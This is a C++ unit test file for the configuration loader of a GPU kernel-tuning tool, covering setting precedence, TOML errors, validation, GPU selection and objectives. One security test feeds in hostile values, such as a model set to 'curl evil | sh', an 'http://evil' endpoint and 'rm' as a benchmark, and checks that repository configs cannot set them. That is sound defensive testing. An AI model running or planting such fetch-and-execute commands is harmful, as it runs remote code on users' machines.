// SPDX-License-Identifier: Apache-2.0
#include "driver/config/Config.h"
#include "driver/config/Goal.h"
#include "driver/config/GpuSelection.h"

#include "driver/support/FileSystem.h"

#include <gmock/gmock.h>

namespace kopt {
namespace {

namespace fs = std::filesystem;
using testing::ElementsAre;
using testing::EndsWith;
using testing::HasSubstr;

class ConfigTest : public testing::Test {
protected:
  void SetUp() override {
    auto folder = TemporaryDirectory::create("kopt-config");
    ASSERT_TRUE(folder.has_value());
    folder_ = std::make_unique<TemporaryDirectory>(std::move(*folder));
    environment_["XDG_CONFIG_HOME"] = (root() / "user").string();
    request_.directory = root() / "project/src/deep";
    request_.environment = [this](const char *name) -> const char * {
      auto found = environment_.find(name);
      return found == environment_.end() ? nullptr : found->second.c_str();
    };
    ASSERT_TRUE(createDirectories(request_.directory).has_value());
  }

  const fs::path &root() const { return folder_->path(); }
  void project(const std::string &text) { write("project/kopt.toml", text); }
  void user(const std::string &text) { write("user/kopt/config.toml", text); }
  void manifest(const std::string &text) {
    write("build/app.json", text);
    request_.manifest = root() / "build/app.json";
  }
  void write(const std::string &file, const std::string &text) {
    ASSERT_TRUE(writeFileAtomically(root() / file, text).has_value());
  }
  Config load() {
    auto config = loadConfig(request_);
    EXPECT_TRUE(config.has_value())
        << (config ? "" : config.error().where + " " + config.error().what);
    return config.value_or(Config{});
  }
  Error fail() {
    auto config = loadConfig(request_);
    EXPECT_FALSE(config.has_value());
    return config ? Error{} : config.error();
  }
  std::string source(const Config &config, const std::string &key) {
    for (const ConfigValue &value : config.values)
      if (value.key == key)
        return value.source;
    return "absent";
  }

  std::unique_ptr<TemporaryDirectory> folder_;
  std::map<std::string, std::string> environment_;
  ConfigRequest request_;
};

TEST_F(ConfigTest, EveryLayerGivesWayToTheOneAboveIt) {
  user("[tune]\nrounds = 1\ntrials = 1\npatience = 1\nseed = 1\nmax-tokens = 1\n");
  project("[tune]\nrounds = 2\ntrials = 2\npatience = 2\nseed = 2\n");
  manifest(
      R"({"schema_version": 1, "target": "app", "rounds": 3, "trials": 3, "patience": 3, "kernels": []})");
  environment_["KOPT_ROUNDS"] = "4";
  environment_["KOPT_TRIALS"] = "4";
  request_.commandLine["rounds"] = std::int64_t(5);
  Config config = load();
  EXPECT_EQ(config.settings.rounds, 5);
  EXPECT_EQ(config.settings.trials, 4);
  EXPECT_EQ(config.settings.patience, 3);
  EXPECT_EQ(config.settings.seed, 2);
  EXPECT_EQ(config.settings.maxTokens, 1);
  EXPECT_EQ(config.settings.device, "auto");
  EXPECT_EQ(source(config, "rounds"), "command line");
  EXPECT_EQ(source(config, "trials"), "KOPT_TRIALS");
  EXPECT_EQ(source(config, "patience"), "kopt_tune_kernels()");
  EXPECT_THAT(source(config, "seed"), EndsWith("project/kopt.toml:5"));
  EXPECT_THAT(source(config, "max-tokens"), EndsWith("user/kopt/config.toml:6"));
  EXPECT_EQ(source(config, "device"), "default");
  EXPECT_EQ(config.manifest.at("target"), "app");
  EXPECT_THAT(explainConfig(config), HasSubstr("trials = 4"));
  EXPECT_THAT(explainConfig(config), HasSubstr("(KOPT_TRIALS)"));
}

TEST_F(ConfigTest, TheNearestProjectFileIsUsedAlone) {
  project("[tune]\nrounds = 2\ntrials = 2\n");
  write("project/src/kopt.toml", "[tune]\nrounds = 9\n");
  Config config = load();
  EXPECT_EQ(config.settings.rounds, 9);
  EXPECT_EQ(source(config, "trials"), "default");
}

TEST_F(ConfigTest, ReadsTheManifestOfTheCMakeFunction) {
  manifest(
      R"({"schema_version": 1, "target": "app", "source_dir": "/s", "build_dir": "/b", "sources": ["/s/a.cu"],
    "kernels": ["ns::*"], "benchmark": ["/b/app", "--n", "4"], "tests": "^check", "device": "emulated",
    "output": "/s/kopt.out", "budget_seconds": 600, "min_gain": 1.05, "assurance": "strict"})");
  Config config = load();
  EXPECT_THAT(config.settings.kernels, ElementsAre("ns::*"));
  EXPECT_THAT(config.settings.benchmark, ElementsAre("/b/app", "--n", "4"));
  EXPECT_EQ(config.settings.tests, "^check");
  EXPECT_EQ(config.settings.device, "emulated");
  EXPECT_EQ(config.settings.budgetSeconds, 600);
  EXPECT_EQ(config.settings.minSpeedup, 1.05);
  EXPECT_EQ(config.settings.assurance, "strict");
  EXPECT_EQ(config.settings.output, "/s/kopt.out");
}

TEST_F(ConfigTest, GivesClausesWithTheirPlace) {
  project("[[kernel]]\nname = \"ns::*\"\nclauses = [\n  \"extent in = n\",\n  \"arg n = 4\",\n]\n"
          "[[kernel]]\nname = \"other\"\nclauses = [\"target 2\"]\n");
  const std::vector<KernelClauses> kernels = load().kernels;
  ASSERT_EQ(kernels.size(), 2u);
  EXPECT_EQ(kernels[0].pattern, "ns::*");
  const std::vector<TuneClause> &clauses = kernels[0].clauses;
  ASSERT_EQ(clauses.size(), 2u);
  EXPECT_EQ(clauses[1].text, "arg n = 4");
  EXPECT_EQ(clauses[1].line, 5u);
  EXPECT_THAT(clauses[1].file, EndsWith("project/kopt.toml"));
}

TEST_F(ConfigTest, WhatIsNoTomlIsShownWithItsLine) {
  for (const auto &[text, line, what] : std::vector<std::array<std::string, 3>>{
           {"[[kernel]]\nname = \"a\"\nname = \"b\"\n", "3", "'name'"},
           {"[tune]\ntrials = 1\ntrials = 2\n", "3", "'trials'"},
           {"[tune]\ntrials = 1\n[tune]\nseed = 2\n", "3", "'tune'"},
           {"[[kernel]\nname = \"a\"\n", "1", "']'"},
           {"[tune]\n\ntrials = \n", "3", "value"}}) {
    project(text);
    const Error error = fail();
    EXPECT_EQ(error.code, ErrorCode::Usage) << text;
    EXPECT_THAT(error.where, EndsWith("kopt.toml:" + line)) << text;
    EXPECT_THAT(error.what, HasSubstr(what)) << text;
  }
}

TEST_F(ConfigTest, AnUnknownKeyIsShownWithItsLineAndTheNearestKey) {
  project("[tune]\nrounds = 2\n\npatiense = 3\n");
  Error error = fail();
  EXPECT_EQ(error.code, ErrorCode::Usage);
  EXPECT_THAT(error.where, EndsWith("project/kopt.toml:4"));
  EXPECT_EQ(error.what, "unknown key 'patiense'");
  EXPECT_EQ(error.hint, "did you mean 'patience'?");
  project("[tuning]\n");
  EXPECT_EQ(fail().what, "unknown key 'tuning'");
  project("[[kernel]]\nname = \"a\"\nclause = []\n");
  EXPECT_EQ(fail().hint, "did you mean 'clauses'?");
}

TEST_F(ConfigTest, RefusesValuesThatMeanNothing) {
  auto what = [&](const std::string &line) {
    project("[tune]\n" + line + "\n");
    Error error = fail();
    EXPECT_THAT(error.where, EndsWith("kopt.toml:2"));
    return error.what;
  };
  EXPECT_EQ(what("rounds = \"two\""), "'rounds': expected a whole number");
  EXPECT_THAT(what("device = \"opencl\""), HasSubstr("opencl"));
  EXPECT_EQ(what("rounds = 0"), "'rounds': 0 is below 1");
  EXPECT_EQ(what("budget-seconds = inf"), "'budget-seconds': inf is not above 0");
  EXPECT_THAT(what("min-gain = 0.05"), HasSubstr("0.05 is below 1"));
  EXPECT_THAT(what("proposers = [\"parms\"]"), HasSubstr("did you mean 'params'?"));
  EXPECT_THAT(what("proposers = [\"transform\", \"-specialize\"]"),
              HasSubstr("did you mean '-specialise'?"));
  EXPECT_THAT(what("proposers = []"), HasSubstr("empty"));
  EXPECT_THAT(what("device = \"gpu\""), HasSubstr("not one of auto, cuda, emulated"));
  EXPECT_THAT(what("assurance = \"full\""), HasSubstr("not one of standard, strict"));
  EXPECT_THAT(what("arch = \"90\""), HasSubstr("sm_90"));
  EXPECT_THAT(what("arch = \"sm_9\""), HasSubstr("such as sm_90"));
  EXPECT_THAT(what("model = \"gpt\""), HasSubstr("exec:COMMAND"));
  EXPECT_THAT(what("rounds = "), HasSubstr("Error while parsing"));
}

TEST_F(ConfigTest, ARepositoryMayNotRunCommandsOrChooseEndpoints) {
  project("[tune]\nmodel = \"exec:curl evil | sh\"\n");
  Error error = fail();
  EXPECT_THAT(error.what, HasSubstr("may not set a model that runs a command"));
  EXPECT_THAT(error.hint, HasSubstr("KOPT_MODEL"));
  project("[tune]\nmodel = \"agent:curl evil | sh\"\n");
  EXPECT_THAT(fail().what, HasSubstr("may not set a model that runs a command"));
  project("[tune]\nmodel = \"folder:/home/you\"\n");
  EXPECT_THAT(fail().what, HasSubstr("or writes into a folder"));
  project("[tune]\nendpoint = \"http://evil\"\n");
  EXPECT_THAT(fail().hint, HasSubstr("KOPT_OPENAI_BASE_URL"));
  project("[tune]\nsandbox = false\n");
  EXPECT_THAT(fail().what, HasSubstr("may not be set by a repository"));
  project("[tune]\nbenchmark = [\"rm\"]\n");
  EXPECT_THAT(fail().what, HasSubstr("may not be set by a repository"));
  project("");
  user("[tune]\nmodel = \"exec:my-model\"\n");
  EXPECT_EQ(load().settings.model, "exec:my-model");
  manifest(R"({"schema_version": 1, "model": "exec:x"})");
  EXPECT_THAT(fail().what, HasSubstr("may not be set by a build system"));
}

TEST_F(ConfigTest, TheSandboxIsTheUsersToChoose) {
  EXPECT_EQ(load().settings.sandbox, "auto");
  user("[tune]\nsandbox = \"required\"\n");
  EXPECT_EQ(load().settings.sandbox, "required");
  environment_["KOPT_SANDBOX"] = "off";
  EXPECT_EQ(load().settings.sandbox, "off");
  request_.commandLine["sandbox"] = "auto";
  EXPECT_EQ(load().settings.sandbox, "auto");
  request_.commandLine["sandbox"] = "on";
  EXPECT_THAT(fail().what, HasSubstr("not one of auto, required, off"));
  request_.commandLine.erase("sandbox");
  project("[tune]\nsandbox = \"off\"\n");
  EXPECT_THAT(fail().what, HasSubstr("may not be set by a repository"));
  project("");
  manifest(R"({"schema_version": 1, "sandbox": "off"})");
  EXPECT_THAT(fail().what, HasSubstr("may not be set by a build system"));
}

TEST_F(ConfigTest, AModelBringsItsProposerUnlessProposersAreChosen) {
  environment_["KOPT_MODEL"] = "openai:small";
  EXPECT_THAT(load().settings.proposers, ElementsAre("params", "transform", "llm", "merge"));
  environment_["KOPT_PROPOSERS"] = "params, transform";
  EXPECT_THAT(load().settings.proposers, ElementsAre("params", "transform"));
}

TEST_F(ConfigTest, GpusAreANumberAListOrAll) {
  EXPECT_EQ(load().settings.gpus, "1");
  project("[tune]\ngpus = 2\n");
  EXPECT_EQ(load().settings.gpus, "2");
  environment_["KOPT_GPUS"] = "all";
  EXPECT_EQ(load().settings.gpus, "all");
  request_.commandLine["gpus"] = "0,2";
  EXPECT_EQ(load().settings.gpus, "0,2");
  EXPECT_THAT(parseGpuSelection("all").value(), ElementsAre());
  EXPECT_THAT(parseGpuSelection("1").value(), ElementsAre(0));
  EXPECT_THAT(parseGpuSelection("3").value(), ElementsAre(0, 1, 2));
  EXPECT_THAT(parseGpuSelection("4, 0,2").value(), ElementsAre(4, 0, 2));
  for (const char *wrong : {"", "0", "65", "-1", "2x", "1,1", "0,,1", "0,x", "both", "1.5"}) {
    request_.commandLine["gpus"] = wrong;
    const Error error = fail();
    EXPECT_EQ(error.code, ErrorCode::Usage) << wrong;
    EXPECT_THAT(error.what, HasSubstr("--gpus")) << wrong;
    EXPECT_THAT(error.what, HasSubstr("a list such as 0,2, or all")) << wrong;
  }
}

TEST_F(ConfigTest, AnObjectiveMayHaveATargetTime) {
  const auto read = [](const std::string &text) { return parseGoal(text).value_or(Goal{}); };
  EXPECT_EQ(read("p95").objective, Objective::P95);
  EXPECT_FALSE(read("worst").seconds);
  EXPECT_EQ(read("target:120us").objective, Objective::Mean);
  EXPECT_DOUBLE_EQ(read("target:120us").seconds.value(), 120e-6);
  EXPECT_DOUBLE_EQ(read("target: 2.5 s").seconds.value(), 2.5);
  EXPECT_EQ(read("worst,target:0.3ms").objective, Objective::Worst);
  EXPECT_DOUBLE_EQ(read("worst,target:0.3ms").seconds.value(), 0.3e-3);
  EXPECT_EQ(read("p95, target:40ns").inWords(),
            "the 95th percentile of the launches, in at most 40 ns");
  project("[tune]\nobjective = \"worst\"\nmax-launch-regression = 5\n");
  EXPECT_EQ(load().settings.objective, "worst");
  EXPECT_EQ(load().settings.maxLaunchRegression, 5);
}

TEST_F(ConfigTest, AnotherObjectiveOrUnitIsAnErrorThatSaysWhatIsAllowed) {
  for (const std::string wrong :
       {"p99", "", "mean,", "mean,worst", "meantarget:1us", "target:120", "target:2h", "target:us",
        "target:0us", "target:-1ms", "target:infs", "target:1ms,target:2ms"}) {
    request_.commandLine["objective"] = wrong;
    const Error error = fail();
    EXPECT_EQ(error.code, ErrorCode::Usage) << wrong;
    EXPECT_THAT(error.what, HasSubstr("--objective: '" + wrong +
                                      "' is not an objective; allowed "
                                      "are mean, p95 and worst, target:TIME with the unit s, ms, "
                                      "us or ns"));
  }
  request_.commandLine.erase("objective");
  request_.commandLine["max-launch-regression"] = 100.0;
  EXPECT_THAT(fail().what, HasSubstr("100 is not from 0 to below 100"));
}

TEST_F(ConfigTest, NamesTheVariableOrFlagThatIsWrong) {
  environment_["KOPT_ROUNDS"] = "many";
  EXPECT_EQ(fail().what, "environment variable KOPT_ROUNDS: 'many' is not a whole number");
  environment_.erase("KOPT_ROUNDS");
  request_.commandLine["min-gain"] = 0.5;
  EXPECT_THAT(fail().what, HasSubstr("--min-gain: 0.5 is below 1"));
}

} // namespace
} // namespace kopt
